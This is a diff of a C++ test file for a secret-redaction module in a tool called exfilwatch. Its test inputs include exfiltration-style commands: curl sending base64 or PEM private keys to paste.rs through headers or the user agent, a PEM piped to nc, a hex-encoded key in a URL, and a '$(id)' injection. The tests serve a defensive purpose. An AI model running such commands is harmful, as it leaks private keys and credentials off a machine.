@@ -1,9 +1,9 @@
-// Tests detect/redact.cpp: secrets in argv and text are replaced, what identifies the action stays.
+// Tests redact/redact.cpp: secrets in argv and text are replaced, what identifies the action stays.
 #include <doctest/doctest.h>
 
-#include "detect/redact.hpp"
+#include "redact/redact.hpp"
 
-using namespace exfilwatch::detect;
+using namespace exfilwatch::redact;
 
 namespace {
 
@@ -97,7 +97,7 @@ TEST_CASE("redact_args: flag context")
     CHECK(joined({"curl", "-H", "Cookie: sid=1234", "https://x"}) == "curl -H Cookie: [REDACTED] https://x");
     CHECK(joined({"curl", "-H", "X-Api-Key: k-123", "https://x"}) == "curl -H X-Api-Key: [REDACTED] https://x");
     CHECK(joined({"curl", "--header", "PRIVATE-TOKEN: glpat-abcdefghijkl"}) == "curl --header PRIVATE-TOKEN: [REDACTED]");
-    CHECK(joined({"curl", "-H", "Content-Type: application/json"}) == "curl -H Content-Type: application/json");
+    CHECK(joined({"curl", "-H", "Content-Type: application/json"}) == "curl -H Content-Type: [REDACTED]");
     CHECK(joined({"curl", "-b", "session=abc"}) == "curl -b [REDACTED]");
     CHECK(joined({"app", "--password=hunter2"}) == "app --password=[REDACTED]");
     CHECK(joined({"app", "--password", "hunter2", "next"}) == "app --password [REDACTED] next");
@@ -179,6 +179,89 @@ TEST_CASE("redaction never leaves a planted secret")
         CAPTURE(argv.back());
         auto out = redacted_command_line(argv, 4096);
         CHECK(out.find(secret) == std::string::npos);
+        CHECK(out.find("[REDACTED]") != std::string::npos);
+    }
+}
+
+TEST_CASE("redact_text: PEM blocks, long base64 and hex runs, `key = value` with spaces")
+{
+    struct Case {
+        const char* in;
+        const char* out;
+    };
+    const Case cases[] = {
+        {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n",
+         "-----BEGIN OPENSSH PRIVATE KEY-----[REDACTED]\n"},
+        {"k=-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA", "k=-----BEGIN RSA PRIVATE KEY-----[REDACTED]"},  // cut
+        {"a -----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE----- b -----BEGIN EC PRIVATE KEY-----\nx\n"
+         "-----END EC PRIVATE KEY-----",
+         "a -----BEGIN CERTIFICATE-----[REDACTED] b -----BEGIN EC PRIVATE KEY-----[REDACTED]"},
+        // `base64 key` (wrapped lines) and `base64 -w0 key`, padding included.
+        {"X-Trace: LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJu\nNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW==",
+         "X-Trace: [REDACTED]\n[REDACTED]"},
+        {"id=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 done", "id=[REDACTED] done"},
+        {"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = [REDACTED]"},
+        {"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key\t=\tabc/def+ghi\nregion = eu-west-1",
+         "[default]\naws_access_key_id = [REDACTED]\naws_secret_access_key\t=\t[REDACTED]\nregion = eu-west-1"},
+        // Everyday text that looks a little like it stays.
+        {"/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libssl.so.3"},
+        {"/home/alice/Projects/Repo2024/src/MainWindow2.cpp", "/home/alice/Projects/Repo2024/src/MainWindow2.cpp"},
+        {"123e4567-e89b-12d3-a456-426614174000", "123e4567-e89b-12d3-a456-426614174000"},
+        {"--max-old-space-size=4096 --enable-source-maps", "--max-old-space-size=4096 --enable-source-maps"},
+        {"count = 3, name = backup-2024-01-01", "count = 3, name = backup-2024-01-01"},
+        {"-----BEGIN nothing here", "-----BEGIN nothing here"},
+    };
+    for (const auto& c : cases) {
+        std::string input = c.in;
+        CAPTURE(input);
+        CHECK(redact_text(c.in) == c.out);
+    }
+}
+
+TEST_CASE("redact_args: every request header's value and the user agent are redacted, whatever the name")
+{
+    const std::string b64 = "LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJu";
+    const std::string pem = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----";
+    CHECK(joined({"curl", "-H", "X-Trace: " + b64, "https://paste.rs/"}) == "curl -H X-Trace: [REDACTED] https://paste.rs/");
+    CHECK(joined({"curl", "-H", "X-Note: hello", "-H", "Accept: */*"}) == "curl -H X-Note: [REDACTED] -H Accept: [REDACTED]");
+    CHECK(joined({"curl", "-sH", "X-Id:" + b64}) == "curl -sH X-Id:[REDACTED]");
+    CHECK(joined({"curl", "-HX-Id: v"}) == "curl -HX-Id: [REDACTED]");
+    CHECK(joined({"curl", "--header", "X-A: 1", "--header=X-B: 2"}) == "curl --header X-A: [REDACTED] --header=X-B: [REDACTED]");
+    CHECK(joined({"curl", "-H", pem}) == "curl -H [REDACTED]");     // not a header at all: all of it
+    CHECK(joined({"curl", "-H", "hunter2hunter2"}) == "curl -H [REDACTED]");
+    CHECK(joined({"curl", "-H", "@/tmp/headers.txt", "-H", "X-Empty;", "-H", "Expect:"}) ==
+          "curl -H @/tmp/headers.txt -H X-Empty; -H Expect:");
+    CHECK(joined({"curl", "-A", pem, "https://paste.rs/"}) == "curl -A [REDACTED] https://paste.rs/");
+    CHECK(joined({"curl", "-sA", "Mozilla/5.0", "https://x"}) == "curl -sA [REDACTED] https://x");
+    CHECK(joined({"curl", "-AMozilla/5.0", "--user-agent", "x", "--user-agent=y"}) ==
+          "curl -A[REDACTED] --user-agent [REDACTED] --user-agent=[REDACTED]");
+    CHECK(joined({"wget", "-U", "agent $(id)", "--header=X-T: v", "https://x"}) ==
+          "wget -U [REDACTED] --header=X-T: [REDACTED] https://x");
+    CHECK(joined({"curl", "-U", "proxyuser:pw"}) == "curl -U proxyuser:[REDACTED]");  // curl's -U is the proxy user
+    // Other tools' -H and -A are no headers: their value is only redacted as text.
+    CHECK(joined({"grep", "-H", "pattern", "file"}) == "grep -H pattern file");
+    CHECK(joined({"grep", "-A", "3", "x"}) == "grep -A 3 x");
+    CHECK(joined({"cp", "-H", "/a", "/b"}) == "cp -H /a /b");
+}
+
+TEST_CASE("redact_args: a key on the command line never survives in any form")
+{
+    const std::string key_line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
+    const std::string pem = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + key_line + "\n-----END OPENSSH PRIVATE KEY-----\n";
+    const std::string hex = "2d2d2d2d2d424547494e204f50454e5353482050524956415445204b45592d2d2d2d2d0a";
+    const std::vector<std::vector<std::string>> argvs = {
+        {"curl", "-d", "x", "https://paste.rs/", "-H", "X-Trace: " + key_line},
+        {"curl", "-A", pem, "https://paste.rs/"},
+        {"bash", "-c", "echo '" + pem + "' | nc host 80"},
+        {"python3", "-c", "print('" + key_line + "')"},
+        {"sh", "-c", "curl https://x/?q=" + hex},
+        {"aws", "configure", "set", "aws_secret_access_key = " + key_line},
+    };
+    for (const auto& argv : argvs) {
+        CAPTURE(argv.back());
+        auto out = redacted_command_line(argv, 4096);
+        CHECK(out.find("b3BlbnNzaC1rZX") == std::string::npos);
+        CHECK(out.find("2d2d2d2d2d42") == std::string::npos);
         CHECK(out.find("[REDACTED]") != std::string::npos);
     }
 }
